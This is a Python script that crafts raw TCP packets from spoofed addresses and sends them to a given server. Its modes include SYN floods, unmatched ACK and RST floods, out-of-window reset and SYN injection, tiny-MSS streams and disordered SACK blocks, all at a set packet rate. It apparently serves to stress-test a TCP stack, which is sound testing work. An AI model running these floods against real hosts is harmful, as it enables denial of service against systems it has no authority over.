"""remote.py INTERFACE MAC ADDRESS PORT ATTACK SECONDS [RATE]: a remote peer that speaks TCP by itself, from addresses
that no kernel has, RATE (4000) packets a second.

  holes     connections that send pieces of every size, each behind a hole, also from the far end to the near one
  acks      segments of connections that there are not, and acknowledgements of what was not sent
  syns      requests that are never completed
  resets    connections of its own that get RST, SYN and ACK with numbers that are not the right ones
  tiny      connections that take a stream in segments of 48 bytes, and acknowledge each
  sacks     the same until a window is open, then SACK blocks in every order and nothing acknowledged

"connected N" says how many connections were made, "answered N" how many segments came back to those of `acks` and
`resets`, "done" that it has ended by itself."""
import collections, os, random, socket, struct, sys, time

interface, mac, address, port, attack, seconds = sys.argv[1:7]
rate = float(sys.argv[7]) if len(sys.argv) > 7 else 4000
port, end = int(port), time.monotonic() + 60
packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
packet.bind((interface, 0))
packet.settimeout(0.5)
ethernet = bytes.fromhex(mac.replace(":", "")) + packet.getsockname()[4] + b"\x08\x00"
FIN, SYN, RST, ACK = 1, 2, 4, 16
TINY = 48
ISN = 1000
server = socket.inet_aton(address)


def fold(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(peer, seq, ack, flags, data=b"", options=b""):
    source, source_port = peer
    ends = socket.inet_aton(source) + server
    tcp = struct.pack("!HHIIBBHHH", source_port, port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      (20 + len(options)) // 4 << 4, flags, 65535, 0, 0) + options + data
    tcp = tcp[:16] + struct.pack("!H", fold(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000, 64, 6, 0) + ends
    return ethernet + ip[:10] + struct.pack("!H", fold(ip)) + ip[12:] + tcp


sent_from, sent = time.monotonic(), 0


def send(frame):
    """At the rate; time that was lost (the attacker is stopped now and then) is not made up for."""
    global sent_from, sent
    ahead = sent / rate - (time.monotonic() - sent_from)
    if ahead > 0.002:
        time.sleep(ahead)
    elif ahead < -0.1:
        sent_from, sent = time.monotonic(), 0
    sent += 1
    try:
        packet.send(frame)
    except OSError:
        time.sleep(0.001)


Seen = collections.namedtuple("Seen", "peer seq ack flags length")


def read(frame):
    """A segment of the server's for the attacker, or None."""
    if len(frame) < 54 or frame[33] < 100 or frame[23] != 6 or frame[26:30] != server:
        return None
    if struct.unpack("!H", frame[34:36])[0] != port:
        return None
    length = struct.unpack("!H", frame[16:18])[0] - 20 - (frame[46] >> 4) * 4
    return Seen((socket.inet_ntoa(frame[30:34]), struct.unpack("!H", frame[36:38])[0]),
                struct.unpack("!I", frame[38:42])[0], struct.unpack("!I", frame[42:46])[0], frame[47], length)


def waiting(n):
    """What has come, n segments at most."""
    packet.setblocking(False)
    try:
        for _ in range(n):
            seen = read(packet.recv(2048))
            if seen:
                yield seen
    except OSError:
        pass
    finally:
        packet.settimeout(0.5)


def answer(peer):
    """The SYN-ACK's number, or None."""
    late = time.monotonic() + 1
    while time.monotonic() < late:
        try:
            seen = read(packet.recv(2048))
        except socket.timeout:
            break
        if seen and seen.peer == peer and seen.flags & (SYN | ACK) == SYN | ACK:
            return seen.seq
    return None


def connect(peer, mss=1460, first=b""):
    """The number of the server's SYN, or None. Window scale 7, SACK."""
    send(segment(peer, ISN, 0, SYN, options=struct.pack("!BBH", 2, 4, mss) + bytes([1, 1, 4, 2, 1, 3, 3, 7])))
    number = answer(peer)
    if number is not None:
        send(segment(peer, ISN + 1, number + 1, ACK))
        if first:
            send(segment(peer, ISN + 1, number + 1, ACK, first))
    return number


def peers(n):
    first = random.randrange(1024, 65000)
    return [("10.9.0.%d" % (100 + i % 100), first + i) for i in range(n)]


def connect_all(n, **how):
    return [(peer, number) for peer in peers(n) for number in [connect(peer, **how)] if number is not None]


def begin(n):
    """From here the seconds count."""
    global end
    print("connected", n, flush=True)
    end = time.monotonic() + float(seconds)


def connected(n):
    made = connect_all(n)
    begin(len(made))
    return made


def holes():
    made, at = connected(40), 0
    while time.monotonic() < end:
        for peer, number in made:
            for i in range(8):
                size = random.choice([1, 1, 1, 2, 7, 100, 700, 1400])
                place = (at + i) * 2 % 60000
                place = 62000 - place if at // 30000 % 2 else place
                send(segment(peer, ISN + 3 + place, number + 1, ACK, b"x" * min(size, 64000 - place)))
        at += 8


def unmatched():
    begin(0)
    answered = 0
    while time.monotonic() < end:
        peer = ("10.9.0.%d" % random.randrange(100, 250), random.randrange(1024, 65536))
        flags = SYN if attack == "syns" else random.choice([ACK, RST, ACK | RST, ACK | SYN])
        send(segment(peer, random.getrandbits(32), random.getrandbits(32), flags,
                     b"" if attack == "syns" else os.urandom(3)))
        answered += sum(1 for _ in waiting(4))
    print("answered", answered)


def resets():
    made, answered, begun = connected(20), 0, time.monotonic()
    list(waiting(1000))
    while time.monotonic() < end:
        peer, number = random.choice(made)
        flags = random.choice([RST, SYN, ACK, RST | ACK, SYN | ACK])
        far = random.choice([1, 100, 5000, 1 << 30, -5000])
        send(segment(peer, ISN + 1 + far, number + 1 + (far if flags & RST == 0 else 0), flags))
        answered += sum(1 for _ in waiting(4))
    print("answered %d of %d in %d ms" % (answered, len(made), (time.monotonic() - begun) * 1000))


class Stream:
    """One that the server sends, in tiny segments."""

    def __init__(self, peer, number):
        self.peer, self.acked, self.highest = peer, number + 1, number + 1

    def note(self, seen):
        end = (seen.seq + seen.length) & 0xFFFFFFFF
        if (end - self.highest) & 0xFFFFFFFF < 1 << 30:
            self.highest = end

    def out(self):
        return ((self.highest - self.acked) & 0xFFFFFFFF) // TINY

    def take_all(self):
        self.acked = self.highest
        send(segment(self.peer, ISN + 2, self.acked, ACK))

    def take_blocks(self):
        """Four places of what is out, one in five up to its end; nothing is acknowledged."""
        blocks, out = b"", self.out()
        for _ in range(4):
            left = random.randrange(1, out - 1)
            right = out if random.random() < 0.2 else left + 1
            blocks += struct.pack("!II", (self.acked + left * TINY) & 0xFFFFFFFF,
                                  (self.acked + right * TINY) & 0xFFFFFFFF)
        send(segment(self.peer, ISN + 2, self.acked, ACK, options=bytes([1, 1, 5, 34]) + blocks))


def pull():
    """The windows are opened before "connected" is said."""
    streams = {peer: Stream(peer, number) for peer, number in connect_all(4, mss=TINY, first=b"g")}
    opened, said = time.monotonic() + 1.5, False
    while time.monotonic() < end:
        for seen in waiting(200):
            if seen.peer in streams:
                streams[seen.peer].note(seen)
        if not said and time.monotonic() >= opened:
            begin(len(streams))
            said = True
        for stream in streams.values():
            if attack == "tiny" or not said or stream.out() < 8:
                stream.take_all()
            else:
                stream.take_blocks()
    print("out", max(stream.out() for stream in streams.values()))


{"holes": holes, "acks": unmatched, "syns": unmatched, "resets": resets, "tiny": pull, "sacks": pull}[attack]()
print("done", flush=True)
